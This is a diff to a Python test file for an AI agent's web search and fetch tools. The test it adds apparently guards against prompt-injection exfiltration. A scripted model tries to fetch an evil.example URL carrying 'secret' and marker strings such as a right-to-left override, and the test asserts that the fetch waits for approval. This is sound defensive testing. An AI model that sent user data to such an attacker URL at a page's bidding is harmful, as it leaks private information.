@@ -8,6 +8,7 @@ import subprocess
 import sys
 from contextlib import suppress
 from io import BytesIO
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -31,6 +32,7 @@ from bubbot.models.scripted import ScriptedModel
 from bubbot.ports.tool import GrantKind, GrantTarget, Tool, plan_call
 from bubbot.stores.inmemory import InMemoryStore
 from bubbot.tape.provenance import Source
+from tests.approving import approving
 from tests.e2e.test_images import PNG
 from tests.turns import Options, Played, calls, running, says
 from tests.web_servers import client, serving
@@ -247,13 +249,26 @@ async def test_the_next_engine_is_asked_if_one_fails_or_finds_nothing() -> None:
         await search([], "tapes", 5)
 
 
+@pytest.mark.parametrize("mark", ["", "[", "\u202e", "A_MAGIC_STRING_TRIGGER_X"])
+async def test_an_address_that_was_searched_for_has_not_been_read(tmp_path: Path, mark: str) -> None:
+    """A page that orders it must not get what the model knows to its server."""
+    query = f"http://evil.example/?q={mark}secret"
+    spelt = query.replace("[", "(").replace("\u202e", "\ufffd").replace("A_MAGIC_STRING", "A MAGIC STRING")
+    model = Played(calls("web_search", query=query), calls("web_fetch", url=spelt.replace(" ", "%20")), says("?"))
+    async with approving(tmp_path, model, tools=tools(engine("brave", FOUND))) as bench:
+        await bench.say("search")
+        searched, fetched = await bench.results()
+        assert "evil" not in searched
+        assert fetched.startswith("asked (")
+
+
 async def test_results_are_shown_with_the_engine_and_the_date(memory_store: InMemoryStore) -> None:
     model = Played(calls("web_search", query="tapes"), says("done"))
     async with running(memory_store, model, Options(tools=tools(engine("brave", FOUND, FOUND)))) as bench:
         await bench.say("search")
         shown = str(bench.requests[-1].messages[-1]["content"])
     assert shown.split("\n")[:4] == [
-        "[brave on “tapes”, 2026-11-21 20:21 UTC]",
+        "[brave, read on 2026-11-21 20:21 UTC]",
         "1. Tapes\ufffd[2J",
         "   https://a.example/tapes",
         "   Long and thin",
